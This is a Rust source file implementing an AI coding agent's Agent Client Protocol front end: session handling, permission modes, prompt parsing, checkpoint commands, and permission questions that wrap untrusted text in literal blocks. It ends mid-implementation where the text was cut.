//! `bravebot acp`: the agent over the Agent Client Protocol (v1, newline-delimited JSON-RPC on
//! stdio), as Zed, JetBrains IDEs, Emacs and other ACP hosts start an external agent. A sibling
//! of `lsp.rs`: the same sessions, opened by `setup::open_session`, reached through the same
//! `Screen` and `Files` traits. No tool or gate knows which front is in use.
//!
//! What differs from the LSP front is only the wire: updates become `session/update`, questions
//! `session/request_permission`, and where the host offers it the editor's buffers are read with
//! `fs/read_text_file` and changed with `fs/write_text_file`. `terminal/*` is never used.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, OnceLock};

use agent_client_protocol::schema::ProtocolVersion;
use agent_client_protocol::v1::schema as acp;
use agent_client_protocol::v1::{ConnectionTo, Responder};
use agent_client_protocol::{Agent, Client, ErrorCode, RequestCancellationHandle, Stdio};
use bravebot_core::cmdline::masked;
use bravebot_core::egress::Egress;
use bravebot_core::files::Files;
use bravebot_core::kernel::policy;
use bravebot_core::kernel::proposal::LineEdit;
use bravebot_core::screen::{
    Answer, BoxFuture, Question, QuestionKind, Screen, StopReason, ToolStatus, Update,
};
use bravebot_core::session::Session;
use bravebot_core::settings::Mode;
use bravebot_core::turn::PromptPicture;
use serde_json::Value;

use crate::setup;

type Result<T> = std::result::Result<T, agent_client_protocol::Error>;

fn invalid_params(message: impl Into<String>) -> agent_client_protocol::Error {
    agent_client_protocol::Error::new(ErrorCode::INVALID_PARAMS, message)
}

fn internal(message: impl Into<String>) -> agent_client_protocol::Error {
    agent_client_protocol::Error::new(ErrorCode::INTERNAL_ERROR, message)
}

/// What `initialize` told us about the host.
#[derive(Clone, Copy, Debug)]
struct Host {
    /// The host both reads and writes its buffers for us (`fs.readTextFile` and
    /// `fs.writeTextFile`). A host that offers only reads gets the disk for both: a change drawn
    /// from a buffer must land in that buffer.
    buffers: bool,
}

/// The sessions this connection opened, and what the host said it can do.
struct Front {
    egress: Arc<Egress>,
    host: OnceLock<Host>,
    sessions: Mutex<HashMap<String, Arc<Session>>>,
}

/// The three modes, in the order hosts list them. None of them skips a question that the mode
/// does not already let land unasked in every other front (WRITE-5).
const MODES: [(Mode, &str, &str); 3] = [
    (
        Mode::Ask,
        "Ask",
        "Every change to a file, every command and every fetch is asked about first.",
    ),
    (
        Mode::AcceptEdits,
        "Accept edits",
        "Changes of trusted text to files you opened land unasked; anything holding content nobody vouched for, commands and fetches still ask.",
    ),
    (
        Mode::Plan,
        "Plan",
        "Reads and plans only: nothing is written and nothing runs.",
    ),
];

fn mode_state(current: Mode) -> acp::SessionModeState {
    acp::SessionModeState::new(
        current.as_str(),
        MODES
            .iter()
            .map(|(mode, name, description)| {
                acp::SessionMode::new(mode.as_str(), *name).description(*description)
            })
            .collect(),
    )
}

/// Servers come from the home settings only (CONTRACT §2): a host's list is refused, not merged.
fn refuse_mcp_servers(servers: &[acp::McpServer]) -> Result<()> {
    if servers.is_empty() {
        return Ok(());
    }
    Err(invalid_params(format!(
        "bravebot does not take MCP servers from the editor ({} sent): servers are set in ~/.bravebot/settings.json only, so a checkout's editor settings cannot add one. Remove them from this agent's entry in the editor's settings.",
        servers.len()
    )))
}

impl Front {
    fn session(&self, id: &acp::SessionId) -> Result<Arc<Session>> {
        self.sessions
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .get(&*id.0)
            .cloned()
            .ok_or_else(|| invalid_params(format!("no session {}", id.0)))
    }

    fn keep(&self, session: Session) -> Arc<Session> {
        let session = Arc::new(session);
        self.sessions
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .insert(session.id.clone(), session.clone());
        session
    }

    /// Opens a session in `cwd`, keeping its record where there is a `~/.bravebot`.
    fn open(
        &self,
        cwd: PathBuf,
        opening: setup::Opening,
        cx: &ConnectionTo<Client>,
    ) -> Result<Session> {
        let host = *self
            .host
            .get()
            .ok_or_else(|| invalid_params("initialize first"))?;
        let files = Arc::new(HostFiles {
            cx: cx.clone(),
            session_id: OnceLock::new(),
            enabled: host.buffers,
            texts: Mutex::default(),
        });
        let screen_files = files.clone();
        let screen_cwd = cwd.clone();
        let session = setup::open_session(
            cwd,
            opening,
            None,
            self.egress.clone(),
            files,
            |id| {
                let _ = screen_files.session_id.set(id.to_string());
                Arc::new(AcpScreen {
                    session_id: id.to_string(),
                    cwd: screen_cwd,
                    cx: cx.clone(),
                    calls: Mutex::default(),
                })
            },
            |_| {},
        );
        Ok(match setup::state_dir() {
            Some(state) => session.keeping_records(state),
            None => session,
        })
    }

    fn initialize(&self, request: acp::InitializeRequest) -> acp::InitializeResponse {
        let fs = &request.client_capabilities.fs;
        let _ = self.host.set(Host {
            buffers: fs.read_text_file && fs.write_text_file,
        });
        acp::InitializeResponse::new(ProtocolVersion::V1)
            .agent_capabilities(
                acp::AgentCapabilities::new()
                    // Records are kept under ~/.bravebot, so a session can be loaded when HOME
                    // names one.
                    .load_session(setup::state_dir().is_some())
                    .prompt_capabilities(
                        acp::PromptCapabilities::new()
                            // A picture in a prompt reaches the planner as a picture (ACP-30).
                            .image(true)
                            .audio(false)
                            .embedded_context(false),
                    ),
            )
            .agent_info(acp::Implementation::new(
                "bravebot",
                env!("CARGO_PKG_VERSION"),
            ))
    }

    fn new_session(
        &self,
        request: acp::NewSessionRequest,
        cx: &ConnectionTo<Client>,
    ) -> Result<acp::NewSessionResponse> {
        refuse_mcp_servers(&request.mcp_servers)?;
        let cwd = workspace(&request.cwd)?;
        let session = self.keep(self.open(cwd, setup::Opening::Fresh, cx)?);
        let mode = session.state().mode;
        Ok(acp::NewSessionResponse::new(session.id.clone()).modes(mode_state(mode)))
    }

    async fn load_session(
        &self,
        request: acp::LoadSessionRequest,
        cx: &ConnectionTo<Client>,
    ) -> Result<acp::LoadSessionResponse> {
        refuse_mcp_servers(&request.mcp_servers)?;
        let id = request.session_id.0.to_string();
        let state = setup::state_dir()
            .ok_or_else(|| invalid_params("HOME is not set: there is no ~/.bravebot"))?;
        if self.session(&request.session_id).is_ok() {
            return Err(invalid_params(format!(
                "session {id} is open on this connection already"
            )));
        }
        let restored = {
            let id = id.clone();
            tokio::task::spawn_blocking(move || state.load(&id))
                .await
                .map_err(|e| internal(format!("reading the record: {e}")))?
                .map_err(|e| invalid_params(e.to_string()))?
        };
        let cwd = std::fs::canonicalize(&restored.cwd)
            .ok()
            .filter(|c| c.is_dir())
            .ok_or_else(|| {
                invalid_params(format!(
                    "session {id} worked in {}, which is not a directory now",
                    restored.cwd.display()
                ))
            })?;
        let session = self.open(cwd, setup::Opening::Resumed(id.clone()), cx)?;
        session.restore(restored);
        let (mode, transcript) = {
            let st = session.state();
            (st.mode, st.conversation.transcript())
        };
        self.keep(session);
        // The host draws the conversation from these, before the load is answered. A record
        // holds only what the planner could read, so nothing untrusted is replayed.
        for (person, text) in transcript {
            let chunk =
                acp::ContentChunk::new(acp::ContentBlock::Text(acp::TextContent::new(text)));
            let update = if person {
                acp::SessionUpdate::UserMessageChunk(chunk)
            } else {
                acp::SessionUpdate::AgentMessageChunk(chunk)
            };
            cx.send_notification(acp::SessionNotification::new(id.clone(), update))?;
        }
        Ok(acp::LoadSessionResponse::new().modes(mode_state(mode)))
    }

    fn set_mode(
        &self,
        request: acp::SetSessionModeRequest,
        cx: &ConnectionTo<Client>,
    ) -> Result<acp::SetSessionModeResponse> {
        let session = self.session(&request.session_id)?;
        let mode = Mode::parse(&request.mode_id.0).ok_or_else(|| {
            invalid_params(format!(
                "unknown mode `{}`: ask, acceptEdits or plan",
                request.mode_id.0
            ))
        })?;
        session.set_mode(mode);
        cx.send_notification(acp::SessionNotification::new(
            request.session_id,
            acp::SessionUpdate::CurrentModeUpdate(acp::CurrentModeUpdate::new(mode.as_str())),
        ))?;
        Ok(acp::SetSessionModeResponse::new())
    }

    fn cancel(&self, notification: acp::CancelNotification) {
        // The turn's questions are refused as it stops (`Call::ask`), and the host's requests
        // for them are withdrawn as their futures are dropped.
        match self.session(&notification.session_id) {
            Ok(s) => s.cancel(),
            Err(_) => tracing::warn!("cancel for unknown session {}", notification.session_id.0),
        }
    }

    fn end_all(&self) {
        for s in self
            .sessions
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .values()
        {
            s.end();
        }
    }
}

/// The directory a host names for a session: absolute, as ACP asks, and a directory.
fn workspace(cwd: &Path) -> Result<PathBuf> {
    if !cwd.is_absolute() {
        return Err(invalid_params(format!(
            "cwd {} is not an absolute path",
            cwd.display()
        )));
    }
    let real = std::fs::canonicalize(cwd)
        .map_err(|e| invalid_params(format!("cwd {}: {e}", cwd.display())))?;
    if !real.is_dir() {
        return Err(invalid_params(format!(
            "cwd {} is not a directory",
            real.display()
        )));
    }
    Ok(real)
}

/// A prompt's blocks as the text of the turn and the files the person named. A link to a file
/// is the person naming it, as `@path` is in the other fronts; anything else is refused with the
/// reason, since the capabilities said it would not be sent.
/// The media types a picture in a prompt may have: the ones every model backend that takes
/// pictures reads.
const PROMPT_PICTURE_TYPES: [&str; 4] = ["image/png", "image/jpeg", "image/gif", "image/webp"];

/// A prompt's text, the files it links and the pictures it holds.
type PromptParts = (String, Vec<PathBuf>, Vec<PromptPicture>);

/// A picture the person put in a prompt: their own words, so it is checked here (a media type the
/// backends read, base64 data) and a bad one is refused whole with invalid params.
fn prompt_picture(image: acp::ImageContent) -> Result<PromptPicture> {
    if !PROMPT_PICTURE_TYPES.contains(&image.mime_type.as_str()) {
        return Err(invalid_params(format!(
            "a picture of type {} is not taken: bravebot takes {}",
            image.mime_type,
            PROMPT_PICTURE_TYPES.join(", ")
        )));
    }
    let base64 = image.data.trim();
    let well_formed = !base64.is_empty()
        && base64.len().is_multiple_of(4)
        && base64
            .trim_end_matches('=')
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/')
        && base64.len() - base64.trim_end_matches('=').len() <= 2;
    if !well_formed {
        return Err(invalid_params(
            "a picture's data is not base64: nothing was sent",
        ));
    }
    Ok(PromptPicture {
        media_type: image.mime_type,
        base64: base64.to_string(),
        // A picture the editor names a source for came off the machine (a file, most often), so
        // it is private; one pasted with no source is as public as the words typed.
        from_file: image.uri.is_some(),
    })
}

fn prompt_parts(cwd: &Path, blocks: Vec<acp::ContentBlock>) -> Result<PromptParts> {
    let mut text = String::new();
    let mut files = Vec::new();
    let mut pictures = Vec::new();
    for block in blocks {
        match block {
            acp::ContentBlock::Text(t) => text.push_str(&t.text),
            acp::ContentBlock::ResourceLink(link) => {
                let path = url::Url::parse(&link.uri)
                    .ok()
                    .filter(|u| u.scheme() == "file")
                    .and_then(|u| u.to_file_path().ok())
                    .ok_or_else(|| {
                        invalid_params(format!(
                            "{} is not a link to a file: bravebot takes file: links only",
                            link.uri
                        ))
                    })?;
                text.push_str(&format!(
                    "@{}",
                    bravebot_core::paths::display_path(cwd, &path)
                ));
                files.push(path);
            }
            acp::ContentBlock::Image(image) => pictures.push(prompt_picture(image)?),
            _ => {
                return Err(invalid_params(
                    "bravebot takes text, links to files and pictures in a prompt; audio and embedded resources are not read",
                ));
            }
        }
    }
    Ok((text, files, pictures))
}

fn stop_reason(stop: StopReason) -> Result<acp::StopReason> {
    match stop {
        StopReason::EndTurn => Ok(acp::StopReason::EndTurn),
        StopReason::Cancelled => Ok(acp::StopReason::Cancelled),
        StopReason::MaxRounds => Ok(acp::StopReason::MaxTurnRequests),
        StopReason::Error(message) => {
            Err(internal(format!("the turn ended in an error: {message}")))
        }
    }
}

/// Tells the host the person's slash commands: the session's checkpoints, and restoring one
/// (ACP-40).
fn offer_commands(cx: &ConnectionTo<Client>, id: acp::SessionId) {
    let commands = vec![
        acp::AvailableCommand::new(
            "checkpoints",
            "List this session's checkpoints: the workspace before each turn and restore, with the files each changed",
        ),
        acp::AvailableCommand::new(
            "restore",
            "Restore the workspace to a checkpoint (files changed since go back; the restore can be undone by restoring the checkpoint it makes)",
        )
        .input(acp::AvailableCommandInput::Unstructured(
            acp::UnstructuredCommandInput::new("a checkpoint id from /checkpoints, e.g. c2"),
        )),
    ];
    let _ = cx.send_notification(acp::SessionNotification::new(
        id,
        acp::SessionUpdate::AvailableCommandsUpdate(acp::AvailableCommandsUpdate::new(commands)),
    ));
}

/// The answer to a prompt that is one of the person's checkpoint commands, or `None` for any
/// other prompt. The text is the person's own words, so it may decide this.
async fn checkpoint_command(session: &Session, text: &str) -> Option<String> {
    let line = text.trim();
    if line == "/checkpoints" {
        let listed = session.checkpoints.list();
        if listed.is_empty() {
            return Some(
                "This session has no checkpoints yet: one is kept before each turn.".into(),
            );
        }
        let mut out = String::from("Checkpoints, newest first (restore one with /restore <id>):\n");
        for c in listed {
            let files: Vec<String> = c
                .changes
                .iter()
                .map(|ch| bravebot_core::paths::display_path(&session.cwd, &ch.path))
                .collect();
            out.push_str(&format!(
                "- {} ({}) before \"{}\": {}\n",
                c.id,
                c.kind.as_str(),
                c.title,
                if files.is_empty() {
                    "no files changed".to_string()
                } else {
                    files.join(", ")
                }
            ));
        }
        return Some(out);
    }
    let id = line.strip_prefix("/restore")?.trim();
    if id.is_empty() {
        return Some("Say which checkpoint: /restore <id>, with an id from /checkpoints.".into());
    }
    Some(match session.restore_checkpoint(id).await {
        Ok(done) => {
            let back: Vec<&str> = done
                .restored
                .iter()
                .filter(|p| !done.removed.contains(p))
                .map(String::as_str)
                .collect();
            let mut out = if done.restored.is_empty() {
                format!("Restored checkpoint {id}: nothing needed to change.")
            } else if back.is_empty() {
                format!("Restored checkpoint {id}.")
            } else {
                format!("Restored checkpoint {id}: {}.", back.join(", "))
            };
            if !done.removed.is_empty() {
                out.push_str(&format!(
                    "\nRemoved {}, which did not exist then.",
                    done.removed.join(", ")
                ));
            }
            for (path, reason) in &done.skipped {
                out.push_str(&format!("\nLeft {path} as it is: {reason}."));
            }
            out.push_str(&format!("\nTo undo this restore: /restore {}", done.undo));
            out
        }
        Err(e) => format!("Not restored: {e}."),
    })
}

async fn prompt(
    front: Arc<Front>,
    request: acp::PromptRequest,
    responder: Responder<acp::PromptResponse>,
    cx: ConnectionTo<Client>,
) {
    let answer = async {
        let session = front.session(&request.session_id)?;
        let (text, files, pictures) = prompt_parts(&session.cwd, request.prompt)?;
        // The person's own slash commands (ACP-40): answered here, never a turn.
        if let Some(said) = checkpoint_command(&session, &text).await {
            let _ = cx.send_notification(acp::SessionNotification::new(
                request.session_id.clone(),
                acp::SessionUpdate::AgentMessageChunk(acp::ContentChunk::new(
                    acp::ContentBlock::Text(acp::TextContent::new(said)),
                )),
            ));
            return Ok(acp::PromptResponse::new(acp::StopReason::EndTurn));
        }
        let stop = session
            .prompt_with_pictures(text, files, pictures)
            .await
            .map_err(|e| {
                agent_client_protocol::Error::new(ErrorCode::INVALID_REQUEST, e.to_string())
            })?;
        stop_reason(stop).map(acp::PromptResponse::new)
    }
    .await;
    let _ = responder.respond_with_result(answer);
}

/// Serves ACP on stdin/stdout until the input ends; then every turn is cancelled and every
/// pending question refused. Returns whether the connection ended without a protocol error.
pub async fn serve(egress: Arc<Egress>) -> bool {
    let front = Arc::new(Front {
        egress,
        host: OnceLock::new(),
        sessions: Mutex::default(),
    });
    let (f1, f2, f3, f4, f5, f6) = (
        front.clone(),
        front.clone(),
        front.clone(),
        front.clone(),
        front.clone(),
        front.clone(),
    );
    let served = Agent
        .v1()
        .name("bravebot")
        .on_receive_request(
            async move |request: acp::InitializeRequest,
                        responder: Responder<acp::InitializeResponse>,
                        _cx: ConnectionTo<Client>| {
                responder.respond(f1.initialize(request))
            },
            agent_client_protocol::on_receive_request!(),
        )
        .on_receive_request(
            async move |request: acp::NewSessionRequest,
                        responder: Responder<acp::NewSessionResponse>,
                        cx: ConnectionTo<Client>| {
                let made = f2.new_session(request, &cx);
                let id = made.as_ref().ok().map(|r| r.session_id.clone());
                responder.respond_with_result(made)?;
                if let Some(id) = id {
                    offer_commands(&cx, id);
                }
                Ok(())
            },
            agent_client_protocol::on_receive_request!(),
        )
        .on_receive_request(
            async move |request: acp::LoadSessionRequest,
                        responder: Responder<acp::LoadSessionResponse>,
                        cx: ConnectionTo<Client>| {
                let front = f3.clone();
                // Reading the record is off the dispatch loop; the replay goes out before the
                // answer, in order.
                tokio::spawn(async move {
                    let id = request.session_id.clone();
                    let answer = front.load_session(request, &cx).await;
                    let loaded = answer.is_ok();
                    let _ = responder.respond_with_result(answer);
                    if loaded {
                        offer_commands(&cx, id);
                    }
                });
                Ok(())
            },
            agent_client_protocol::on_receive_request!(),
        )
        .on_receive_request(
            async move |request: acp::PromptRequest,
                        responder: Responder<acp::PromptResponse>,
                        cx: ConnectionTo<Client>| {
                // A turn waits on the host (questions, its buffers), so it runs off the
                // dispatch loop, which must stay free to read the host's answers.
                tokio::spawn(prompt(f4.clone(), request, responder, cx));
                Ok(())
            },
            agent_client_protocol::on_receive_request!(),
        )
        .on_receive_request(
            async move |request: acp::SetSessionModeRequest,
                        responder: Responder<acp::SetSessionModeResponse>,
                        cx: ConnectionTo<Client>| {
                responder.respond_with_result(f5.set_mode(request, &cx))
            },
            agent_client_protocol::on_receive_request!(),
        )
        .on_receive_notification(
            async move |notification: acp::CancelNotification, _cx: ConnectionTo<Client>| {
                f6.cancel(notification);
                Ok(())
            },
            agent_client_protocol::on_receive_notification!(),
        )
        .connect_to(Stdio::new())
        .await;
    // The end of the input: nobody is left to answer.
    front.end_all();
    match served {
        Ok(()) => true,
        Err(e) => {
            tracing::warn!("the ACP connection ended: {}", e.message);
            false
        }
    }
}

/// The tool call that questions and results belong to: tools run one at a time in a turn, so
/// the one announced last.
#[derive(Default)]
struct Calls {
    current: Option<String>,
    /// What the current call's content holds so far (a `tool_call_update` replaces it whole).
    content: Vec<acp::ToolCallContent>,
    /// For questions put outside any tool call.
    asked: u64,
}

/// The person's screen in an ACP host.
struct AcpScreen {
    session_id: String,
    cwd: PathBuf,
    cx: ConnectionTo<Client>,
    calls: Mutex<Calls>,
}

fn text_block(text: impl Into<String>) -> acp::ToolCallContent {
    acp::ToolCallContent::Content(acp::Content::new(acp::ContentBlock::Text(
        acp::TextContent::new(text),
    )))
}

fn tool_kind(tool: &str) -> acp::ToolKind {
    match tool {
        "read_file" | "list_files" | "read_git" | "read_output" | "job_output" | "lsp" => {
            acp::ToolKind::Read
        }
        "search" => acp::ToolKind::Search,
        "write_file" | "edit_file" => acp::ToolKind::Edit,
        "run" => acp::ToolKind::Execute,
        "fetch_url" => acp::ToolKind::Fetch,
        "todo_write" | "spawn_processor" | "vet_content" => acp::ToolKind::Think,
        _ => acp::ToolKind::Other,
    }
}

/// The routing argument a call is about, for its title: the planner's routing fields are
/// trusted and public (they are what the gates judged).
fn subject_of(routing: &Value) -> Option<&str> {
    [
        "path",
        "command",
        "url",
        "pattern",
        "query",
        "reference",
        "name",
    ]
    .iter()
    .find_map(|key| routing.get(key).and_then(Value::as_str))
}

/// Text the driver did not write, for the person's eyes in a host that renders Markdown: a fenced
/// code block (nothing in it is read as a link, an image or markup) whose fence is longer than
/// any run of backticks inside, so no line of the text can close it, each line under the one mask
/// a command is shown with ([`masked`]: control characters as pictures, the Unicode ones that
/// could reorder or hide text as escapes).
fn literal_block(text: &str) -> String {
    let mut body = String::new();
    for line in text.split('\n') {
        body.push_str(&masked(line));
        body.push('\n');
    }
    let fence = "`".repeat(longest_backtick_run(&body).max(2) + 1);
    format!("{fence}\n{body}{fence}\n")
}

/// A short field (a URL, a host) as inline code under the one mask: its span's backticks
/// outnumber any run inside, and it is padded where it begins or ends with one, so no character
/// of it can close the span and be read as a link or markup (ACP-14).
fn literal_inline(text: &str) -> String {
    let body = masked(text);
    let fence = "`".repeat(longest_backtick_run(&body) + 1);
    let pad = if body.starts_with('`') || body.ends_with('`') {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{body}{pad}{fence}")
}

/// The longest run of backticks in `text`.
fn longest_backtick_run(text: &str) -> usize {
    text.split(|c| c != '`').map(str::len).max().unwrap_or(0)
}

/// Cancels the host's permission request when the question stops being waited on (the turn was
/// cancelled or ended), so the host takes its prompt down.
struct WithdrawRequest(Option<RequestCancellationHandle>);

impl Drop for WithdrawRequest {
    fn drop(&mut self) {
        if let Some(handle) = self.0.take() {
            let _ = handle.cancel();
        }
    }
}

impl AcpScreen {
    fn send(&self, update: acp::SessionUpdate) {
        if let Err(e) = self.cx.send_notification(acp::SessionNotification::new(
            self.session_id.clone(),
            update,
        )) {
            tracing::warn!("session update not sent: {}", e.message);
        }
    }

    fn calls(&self) -> std::sync::MutexGuard<'_, Calls> {
        self.calls.lock().unwrap_or_else(|p| p.into_inner())
    }

    /// Adds to the current call's content and sends it whole.
    fn add_content(&self, block: acp::ToolCallContent) {
        let (id, content) = {
            let mut calls = self.calls();
            let Some(id) = calls.current.clone() else {
                return;
            };
            calls.content.push(block);
            (id, calls.content.clone())
        };
        self.send(acp::SessionUpdate::ToolCallUpdate(
            acp::ToolCallUpdate::new(id, acp::ToolCallUpdateFields::new().content(content)),
        ));
    }

    fn absolute(&self, path: &str) -> PathBuf {
        bravebot_core::paths::absolute(&self.cwd, Path::new(path))
    }

    /// What a question shows besides its diff, as Markdown text: first the driver's facts (where
    /// it comes from, the command, the check's word), plain; then every field the driver did not
    /// write as a literal block under a label saying whose words it holds: the check's sentence,
    /// the content a yes would let through, and last the agent's own words (its question, its
    /// `why`), so nothing the planner wrote is drawn as markup or above the facts it is about.
    /// The question subject is the one place untrusted bytes go to the host.
    fn question_text(question: &Question) -> String {
        let s = &question.subject;
        let mut m = String::new();
        let mut line = |text: String| {
            m.push_str(&text);
            m.push_str("\n\n");
        };
        if let Some(origin) = &s.origin {
            line(format!("From: {origin}"));
        }
        if let Some(url) = &s.url {
            line(format!("URL: {}", literal_inline(url)));
        }
        if let Some(host) = &s.host {
            line(format!("Host: {}", literal_inline(host)));
        }
        if let Some(command) = &s.command {
            line(format!("Command:\n\n{}", literal_block(command)));
        }
        if !s.plan.is_empty() {
            line(literal_block(&s.plan.join("\n")));
        }
        if let Some(copy) = &s.copy {
            line(format!(
                "A private copy to open in your own viewer: {} ({}, {} bytes)",
                literal_inline(&copy.path),
                copy.media_type,
                copy.bytes
            ));
        }
        if let Some(notice) = &s.notice {
            line(notice.clone());
        }
        if let Some(v) = s.verdict {
            line(format!("The check said: {}", v.as_str()));
        }
        if s.hunks.len() > 1 {
            line(format!(
                "This change has {} hunks. ACP has no answer for one hunk, so this answer is for the whole change.",
                s.hunks.len()
            ));
        }
        if let Some(t) = &s.verdict_text {
            line(format!(
                "The check's words (nobody vouched for them):\n\n{}",
                literal_block(policy::to_screen(t).as_str())
            ));
        }
        if let Some(content) = &s.content {
            let label = content.label();
            line(format!(
                "The content ({label}):\n\n{}",
                literal_block(policy::to_screen(content).as_str())
            ));
        }
        if let Some(q) = &s.question {
            let asked = match &s.header {
                Some(header) => format!("{header}: {q}"),
                None => q.clone(),
            };
            line(format!("The agent asks:\n\n{}", literal_block(&asked)));
        }
        if let Some(why) = &question.why {
            line(format!("The agent says:\n\n{}", literal_block(why)));
        }
        m
    }
}

impl Screen for AcpScreen {
    fn update(&self, update: Update) {
        match update {
            Update::AgentText { delta } => self.send(acp::SessionUpdate::AgentMessageChunk(
                acp::ContentChunk::new(acp::ContentBlock::Text(acp::TextContent::new(delta))),
            )),
            Update::ToolCall {
                call_id,
                tool,
                why,
                routing,
            } => {
                {
                    let mut calls = self.calls();
                    calls.current = Some(call_id.clone());
                    calls.content.clear();
                }
                let title = match subject_of(&routing) {
                    Some(subject) => format!("{tool} {}", masked(subject)),
                    None => tool.clone(),
                };
                let locations: Vec<acp::ToolCallLocation> = routing
                    .get("path")
                    .and_then(Value::as_str)
                    .map(|p| {
                        let line = routing
                            .get("line")
                            .and_then(Value::as_u64)
                            .and_then(|l| u32::try_from(l).ok());
                        acp::ToolCallLocation::new(self.absolute(p)).line(line)
                    })
                    .into_iter()
                    .collect();
                let mut call = acp::ToolCall::new(call_id, title)
                    .kind(tool_kind(&tool))
                    .status(acp::ToolCallStatus::InProgress)
                    .locations(locations)
                    .raw_input(routing);
                if !why.is_empty() {
                    call = call.content(vec![text_block(why.clone())]);
                    self.calls().content.push(text_block(why));
                }
                self.send(acp::SessionUpdate::ToolCall(call));
            }
            Update::ToolResult {
                call_id,
                status,
                summary,
            } => {
                let content = {
                    let mut calls = self.calls();
                    calls.content.push(text_block(summary));
                    let content = calls.content.clone();
                    if calls.current.as_deref() == Some(call_id.as_str()) {
                        calls.current = None;
                        calls.content.clear();
                    }
                    content
                };
                let status = match status {
                    ToolStatus::Ok => acp::ToolCallStatus::Completed,
                    ToolStatus::Error | ToolStatus::Refused | ToolStatus::Failed => {
                        acp::ToolCallStatus::Failed
                    }
                };
                self.send(acp::SessionUpdate::ToolCallUpdate(acp::ToolCallUpdate::new(
                    call_id,
                    acp::ToolCallUpdateFields::new()
                        .status(status)
                        .content(content),
                )));
            }
            Update::Quarantined { reference, origin } => self.add_content(text_block(format!(
                "Held as {} ({origin}: {} lines, {} bytes, {}). The agent sees only the reference.",
                reference.id, reference.lines, reference.bytes, reference.label
            ))),
            // A remark and untrusted run output are drawn by the other fronts inside a margin
            // that says nobody vouched for them; an ACP host has no such margin, and keeps tool
            // content where a model may read it again, so here they are named, not shown.
            Update::Remark { .. } => self.add_content(text_block(
                "The processor left a remark, which holds content nobody vouched for; this editor is not shown it.",
            )),
            Update::HeldBack { path, verdict, .. } => self.add_content(text_block(format!(
                "{path} is held back from the agent: a check judged its bytes {}. The check's reasons hold content nobody vouched for; this editor is not shown them.",
                verdict.as_str()
            ))),
            Update::RunOutput {
                stream,
                text,
                bytes,
            } => {
                let block = if text.label().is_trusted() {
                    text_block(format!(
                        "{stream}:\n\n{}",
                        literal_block(policy::to_screen(&text).as_str())
                    ))
                } else {
                    text_block(format!(
                        "{stream}: {bytes} bytes nobody vouched for, not shown in this editor."
                    ))
                };
                self.add_content(block);
            }
            // The delegate's start and report already stand as its `spawn_agent` tool call.
            Update::Check { .. } | Update::Delegate { .. } => {}
            Update::Plan { todos } => self.send(acp::SessionUpdate::Plan(acp::Plan::new(
                todos
                    .into_iter()
                    .map(|t| {
                        let status = match t.status.as_str() {
                            "completed" => acp::PlanEntryStatus::Completed,
                            "in_progress" => acp::PlanEntryStatus::InProgress,
                            _ => acp::PlanEntryStatus::Pending,
                        };
                        acp::PlanEntry::new(t.content, acp::PlanEntryPriority::Medium, status)
                    })
                    .collect(),
            ))),
            Update::TurnEnded { .. } => {
                let mut calls = self.calls();
                calls.current = None;
                calls.content.clear();
            }
            // The host lists checkpoints through the `/checkpoints` and `/restore` commands.
            Update::Checkpoint { .. } => {}
        }
    }

    fn ask(&self, question: Question) -> BoxFuture<'_, Answer> {
        Box::pin(async move {
            // The call the question belongs to; one of its own when it came outside any.
            let (call_id, own) = {
                let mut calls = self.calls();
                match calls.current.clone() {
                    Some(id) => (id, false),
                    None => {
                        calls.asked += 1;
                        let id = format!("question-{}", calls.asked);
                        calls.current = Some(id.clone());
                        calls.content.clear();
                        drop(calls);
                        self.send(acp::SessionUpdate::ToolCall(
                            acp::ToolCall::new(id.clone(), question.title.clone())
                                .kind(acp::ToolKind::Other)
                                .status(acp::ToolCallStatus::Pending),
                        ));
                        (id, true)
                    }
                }
            };
            let s = &question.subject;
            let mut content = Vec::new();
            let mut locations = Vec::new();
            if let Some(path) = &s.path {
                locations.push(acp::ToolCallLocation::new(self.absolute(path)));
            }
            // A change is shown as a diff, before it is asked about.
            if let (QuestionKind::Edit | QuestionKind::Write, Some(path), Some(proposed)) =
                (question.kind, &s.path, &s.proposed)
            {
                let diff =
                    acp::Diff::new(self.absolute(path), policy::to_screen(proposed).to_string())
                        .old_text(
                            s.original
                                .as_ref()
                                .map(|o| policy::to_screen(o).to_string()),
                        );
                let shown = {
                    let mut calls = self.calls();
                    calls.content.push(acp::ToolCallContent::Diff(diff.clone()));
                    calls.content.clone()
                };
                self.send(acp::SessionUpdate::ToolCallUpdate(
                    acp::ToolCallUpdate::new(
                        call_id.clone(),
                        acp::ToolCallUpdateFields::new()
                            .status(acp::ToolCallStatus::Pending)
                            .content(shown),
                    ),
                ));
                content.push(acp::ToolCallContent::Diff(diff));
            }
            let text = Self::question_text(&question);
            if !text.is_empty() {
                content.push(text_block(text));
            }
            let options: Vec<acp::PermissionOption> = question
                .options
                .iter()
                .map(|o| {
                    let kind = match o.kind {
                        bravebot_core::screen::OptionKind::AllowOnce => {
                            acp::PermissionOptionKind::AllowOnce
                        }
                        bravebot_core::screen::OptionKind::AllowAlways => {
                            acp::PermissionOptionKind::AllowAlways
                        }
                        bravebot_core::screen::OptionKind::RejectOnce => {
                            acp::PermissionOptionKind::RejectOnce
                        }
                        bravebot_core::screen::OptionKind::RejectAlways => {
                            acp::PermissionOptionKind::RejectAlways
                        }
                    };
                    acp::PermissionOption::new(o.id.clone(), o.name.clone(), kind)
                })
                .collect();
            let request = acp::RequestPermissionRequest::new(
                self.session_id.clone(),
                acp::ToolCallUpdate::new(
                    call_id.clone(),
                    acp::ToolCallUpdateFields::new()
                        .title(question.title.clone())
                        .status(acp::ToolCallStatus::Pending)
                        .locations(locations)
                        .content(content),
                ),
                options,
            );
            let sent = self.cx.send_request(request);
            let _withdraw = WithdrawRequest(Some(sent.cancellation_handle()));
            let reply = sent.block_task().await;
            let answer = read_outcome(&question, reply.ok().map(|r| r.outcome));
            // A call of the question's own ends with its answer.
            if own {
                self.calls().current = None;
                let status = if answer.approves(&question) {
                    acp::ToolCallStatus::Completed
                } else {
                    acp::ToolCallStatus::Failed
                };
                self.send(acp::SessionUpdate::ToolCallUpdate(
                    acp::ToolCallUpdate::new(
                        call_id,
                        acp::ToolCallUpdateFields::new().status(status),
                    ),
                ));
            }
            answer
        })
    }

    fn interactive(&self) -> bool {
        true
    }
